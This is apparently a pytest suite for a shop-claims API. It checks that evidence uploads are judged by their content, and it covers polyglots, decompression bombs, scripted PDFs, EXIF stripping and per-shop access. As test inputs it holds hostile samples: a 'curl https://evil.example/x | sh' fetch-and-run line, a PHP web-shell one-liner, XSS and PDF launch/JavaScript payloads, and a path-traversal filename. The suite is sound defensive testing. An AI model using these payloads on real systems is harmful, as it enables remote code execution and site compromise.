"""Evidence uploads under attack: judged by content, bombs and polyglots refused, metadata stripped, kept per shop."""

from __future__ import annotations

import io

import pytest
from PIL import Image

from tests.claim_helpers import claim_with_files, shipped_order
from tests.conftest import bearer
from tests.evidence_helpers import (
    encode,
    multipart,
    noise_jpeg,
    pdf_with_catalog,
    pdf_with_hidden_script,
    plain_pdf,
    png_declaring,
    scene,
    scene_jpeg,
)

MiB = 1024 * 1024


def refused(response, fragment: str = "") -> str:
    """The 422's message about `evidence` (the contract's error shape)."""
    assert response.status_code == 422, response.get_json()
    error = response.get_json()["error"]
    assert error["code"] == "validation_error"
    [message] = error["fields"]["evidence"]
    assert fragment.lower() in message.lower(), message
    return message


@pytest.fixture()
def order(client, shop):
    return shipped_order(client, shop, shipped_days_ago=5)


def served(client, shop, claim_body, index: int = 0):
    evidence_id = claim_body["evidence"][index]["id"]
    return client.get(f"/api/v1/claims/{claim_body['id']}/evidence/{evidence_id}", headers=bearer(shop.keys.secret_key))


def test_a_script_renamed_jpg_is_refused(client, shop, order):
    script = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
    refused(claim_with_files(client, shop, [(script, "photo.jpg")]), "not a JPEG, PNG, WebP or PDF")
    page = b"<html><script>alert(1)</script></html>"
    refused(claim_with_files(client, shop, [(page, "photo.jpg")]), "not a JPEG")


def test_an_empty_file_is_refused(client, shop, order):
    refused(claim_with_files(client, shop, [(b"", "empty.jpg")]), "empty")


CLAIM_FIELDS = {"order_id": "1001", "email": "jade@example.com", "type": "damaged", "description": "Broken."}


def post_files(client, path: str, key: str, files: list[tuple[bytes, str]], fields: dict[str, str] | None = None):
    body, content_type = multipart(fields or {}, [("evidence", data, name) for data, name in files])
    return client.post(path, data=body, headers=bearer(key), content_type=content_type)


def test_a_50_mb_file_is_refused(client, shop, order):
    huge = [(b"\xff\xd8\xff" + bytes(50 * MiB), "huge.jpg")]
    response = post_files(client, "/api/v1/claims", shop.keys.secret_key, huge, CLAIM_FIELDS)
    assert response.status_code in {413, 422}, response.status_code
    assert "evidence" in response.get_json()["error"]["fields"] or response.status_code == 413


def test_eleven_files_are_refused(client, shop, order):
    files = [(scene_jpeg(seed), f"{seed}.jpg") for seed in range(11)]
    refused(claim_with_files(client, shop, files), "at most 10 files")


@pytest.mark.parametrize(
    ("width", "height"),
    [(50_000, 50_000), (9_500, 9_500), (8_000, 6_000)],
    ids=["pillow-error", "pillow-warning", "over-our-limit"],
)
def test_a_decompression_bomb_is_refused(client, shop, order, width, height):
    bomb = png_declaring(width, height)
    assert len(bomb) < 200
    refused(claim_with_files(client, shop, [(bomb, "bomb.png")]), "megapixels")


def test_a_truncated_image_is_refused(client, shop, order):
    whole = scene_jpeg(3)
    refused(claim_with_files(client, shop, [(whole[: len(whole) // 2], "half.jpg")]), "damaged")


def test_a_pdf_with_javascript_is_refused(client, shop, order):
    script = pdf_with_catalog(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>")
    message = refused(claim_with_files(client, shop, [(scene_jpeg(1), "a.jpg"), (script, "invoice.pdf")]), "scripts")
    assert "JavaScript" in message and "invoice.pdf" in message


@pytest.mark.parametrize(
    "document",
    [
        pdf_with_hidden_script(),  # only inside a compressed object stream, names #-escaped
        pdf_with_catalog(b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>", b"<< >>"),
        pdf_with_catalog(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (calc.exe) >> >>"),
        pdf_with_catalog(b"<< /Type /Catalog /Pages 2 0 R /AA << /O 4 0 R >> >>", b"<< /S /URI /URI (x) >>"),
    ],
    ids=["objstm-javascript", "embedded-file", "launch", "additional-actions"],
)
def test_pdfs_that_act_are_refused(client, shop, order, document):
    refused(claim_with_files(client, shop, [(scene_jpeg(1), "a.jpg"), (document, "doc.pdf")]), "scripts")


def test_an_encrypted_pdf_is_refused(client, shop, order):
    encrypted = pdf_with_catalog(
        b"<< /Type /Catalog /Pages 2 0 R >>", trailer_extra=b"/Encrypt << /Filter /Standard >> "
    )
    refused(claim_with_files(client, shop, [(scene_jpeg(1), "a.jpg"), (encrypted, "locked.pdf")]), "encrypted")


def test_a_plain_pdf_is_kept_as_sent(client, shop, order):
    document = plain_pdf()
    response = claim_with_files(client, shop, [(scene_jpeg(1), "a.jpg"), (document, "receipt.pdf")])
    assert response.status_code == 201, response.get_json()
    body = response.get_json()
    assert [e["kind"] for e in body["evidence"]] == ["image", "pdf"]
    answer = served(client, shop, body, 1)
    assert answer.status_code == 200 and answer.data == document
    assert answer.headers["Content-Type"] == "application/pdf"


@pytest.mark.parametrize(
    "payload",
    [
        b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n",
        b"<html><body><script>alert(document.domain)</script></body></html>",
        b"<?php system($_GET['c']); ?>",
    ],
    ids=["pdf", "html", "php"],
)
def test_a_jpeg_with_a_payload_appended_is_refused(client, shop, order, payload):
    refused(claim_with_files(client, shop, [(scene_jpeg(2) + payload, "photo.jpg")]), "inside it")


def test_a_pdf_starting_with_a_jpeg_header_is_refused(client, shop, order):
    polyglot = scene_jpeg(2)[:200] + plain_pdf()
    response = claim_with_files(client, shop, [(polyglot, "scan.pdf")])
    refused(response)


def test_markup_in_the_first_kilobyte_is_refused(client, shop, order):
    png = encode(scene(4), "PNG")
    # A PNG whose first text chunk is a page: valid PNG, valid HTML to a sniffing browser.
    text_chunk = b"\x00\x00\x00\x1ftEXtComment\x00<script>alert(1)</script>\x00\x00\x00\x00"
    polyglot = png[:33] + text_chunk + png[33:]
    refused(claim_with_files(client, shop, [(polyglot, "image.png")]))


def _jpeg_with_gps_and_rotation() -> bytes:
    image = scene(5, (64, 48))
    exif = Image.Exif()
    exif[0x0110] = "Secret Phone 12"  # camera model
    exif[0x0112] = 6  # orientation: rotate 90° clockwise to display
    exif[0x8825] = {1: "N", 2: (48.0, 51.0, 29.0), 3: "E", 4: (2.0, 17.0, 40.0)}  # GPS position
    return encode(image, "JPEG", exif=exif, quality=95, comment=b"taken at home")


def test_exif_gps_is_stripped_from_what_is_served(client, shop, order):
    original = _jpeg_with_gps_and_rotation()
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(0x8825)  # the upload does carry a position
    response = claim_with_files(client, shop, [(original, "photo.jpg")])
    assert response.status_code == 201, response.get_json()
    body = response.get_json()
    answer = served(client, shop, body)
    assert answer.status_code == 200
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Content-Disposition"].startswith("attachment;")
    assert answer.headers["Content-Type"] == "image/jpeg"
    clean = Image.open(io.BytesIO(answer.data))
    assert clean.format == "JPEG" and clean.size == (48, 64)  # orientation applied, then dropped
    assert not clean.getexif() and "exif" not in clean.info and "comment" not in clean.info
    assert b"Exif" not in answer.data and b"Secret Phone" not in answer.data and b"taken at home" not in answer.data
    # The sha256 shown is of the bytes as received (the exact-reuse signal); the size is of the clean copy.
    import hashlib

    evidence = body["evidence"][0]
    assert evidence["sha256"] == hashlib.sha256(original).hexdigest()
    assert evidence["size"] == len(answer.data)


@pytest.mark.parametrize("fmt", ["PNG", "WEBP"])
def test_png_and_webp_are_reencoded_in_their_format(client, shop, order, fmt):
    original = encode(scene(6), fmt)
    response = claim_with_files(client, shop, [(original, f"photo.{fmt.lower()}")])
    assert response.status_code == 201, response.get_json()
    answer = served(client, shop, response.get_json())
    assert Image.open(io.BytesIO(answer.data)).format == fmt
    assert answer.headers["Content-Type"] == f"image/{fmt.lower()}"


def test_the_declared_type_and_name_are_ignored(client, shop, order):
    data = {
        "order_id": "1001",
        "email": "jade@example.com",
        "type": "damaged",
        "description": "Broken.",
        "evidence": [(io.BytesIO(encode(scene(7), "PNG")), "../../etc/passwd.exe", "text/html")],
    }
    response = client.post(
        "/api/v1/claims", data=data, headers=bearer(shop.keys.secret_key), content_type="multipart/form-data"
    )
    assert response.status_code == 201, response.get_json()
    [evidence] = response.get_json()["evidence"]
    assert evidence["content_type"] == "image/png" and evidence["filename"] == "passwd.exe"
    answer = served(client, shop, response.get_json())
    assert answer.headers["Content-Disposition"] == f'attachment; filename="{evidence["id"]}.png"'


def test_another_shop_cannot_read_the_files(client, shop, new_shop, order):
    body = claim_with_files(client, shop, [(scene_jpeg(8), "photo.jpg")]).get_json()
    evidence_id = body["evidence"][0]["id"]
    other = new_shop("Other House")
    path = f"/api/v1/claims/{body['id']}/evidence/{evidence_id}"
    assert client.get(path, headers=bearer(other.keys.secret_key)).status_code == 404
    assert client.get(path, headers=bearer(shop.keys.publishable_key)).status_code == 403
    assert client.get(path).status_code == 401
    assert client.get(path, headers=bearer(shop.keys.secret_key)).status_code == 200


def _signals(response) -> dict[str, str]:
    assert response.status_code == 201, response.get_json()
    return {signal["code"]: signal["detail"] for signal in response.get_json()["signal_details"]}


def test_a_resized_reencoded_photo_of_an_earlier_claim_is_similar(client, shop):
    for order_id in ("1001", "1002", "1003"):
        shipped_order(client, shop, order_id, shipped_days_ago=5)
    first = claim_with_files(client, shop, [(scene_jpeg(9), "first.jpg")], order_id="1001")
    assert first.status_code == 201, first.get_json()
    # The same photo, saved again at another quality and half the size: other bytes, same picture.
    original = Image.open(io.BytesIO(scene_jpeg(9)))
    again = encode(original.resize((320, 240)), "JPEG", quality=60)
    signals = _signals(claim_with_files(client, shop, [(again, "again.jpg")], order_id="1002"))
    assert "evidence_similar" in signals and first.get_json()["id"] in signals["evidence_similar"]
    assert "evidence_reused" not in signals
    unrelated = _signals(claim_with_files(client, shop, [(scene_jpeg(10), "other.jpg")], order_id="1003"))
    assert "evidence_similar" not in unrelated and "evidence_reused" not in unrelated


def test_the_same_bytes_are_reused_not_similar(client, shop):
    for order_id in ("1001", "1002"):
        shipped_order(client, shop, order_id, shipped_days_ago=5)
    photo = scene_jpeg(11)
    first = claim_with_files(client, shop, [(photo, "first.jpg")], order_id="1001")
    assert first.status_code == 201
    signals = _signals(claim_with_files(client, shop, [(photo, "copy.jpg")], order_id="1002"))
    assert "evidence_reused" in signals and "evidence_similar" not in signals


def test_another_shops_photos_are_never_matched(client, shop, new_shop):
    other = new_shop("Other House")
    shipped_order(client, other, "2001", shipped_days_ago=5)
    shipped_order(client, shop, "1001", shipped_days_ago=5)
    assert claim_with_files(client, other, [(scene_jpeg(12), "theirs.jpg")], order_id="2001").status_code == 201
    signals = _signals(claim_with_files(client, shop, [(scene_jpeg(12), "mine.jpg")], order_id="1001"))
    assert "evidence_reused" not in signals and "evidence_similar" not in signals


def test_only_upload_endpoints_take_large_bodies(client, shop, order):
    photo = noise_jpeg(1800, 1400)
    assert len(photo) > 2 * MiB
    accepted = post_files(client, "/api/v1/claims", shop.keys.secret_key, [(photo, "big.jpg")], CLAIM_FIELDS)
    assert accepted.status_code == 201, accepted.get_json()
    too_big = post_files(client, "/api/v1/quotes", shop.keys.publishable_key, [(photo, "big.jpg")])
    assert too_big.status_code in {413, 415}, too_big.status_code
    assert too_big.get_json()["error"]["code"] in {"payload_too_large", "unsupported_media_type"}


def test_a_claims_evidence_is_listed_and_added_to(client, shop, order):
    body = claim_with_files(client, shop, [(scene_jpeg(13), "first.jpg")]).get_json()
    key = shop.keys.secret_key
    added = post_files(client, f"/api/v1/claims/{body['id']}/evidence", key, [(plain_pdf(), "receipt.pdf")])
    assert added.status_code == 201, added.get_json()
    listed = client.get(f"/api/v1/claims/{body['id']}/evidence", headers=bearer(key)).get_json()
    assert [(e["kind"], e["uploaded_by"]) for e in listed["data"]] == [("image", "merchant"), ("pdf", "merchant")]
    hostile = post_files(client, f"/api/v1/claims/{body['id']}/evidence", key, [(pdf_with_hidden_script(), "x.pdf")])
    refused(hostile, "scripts")
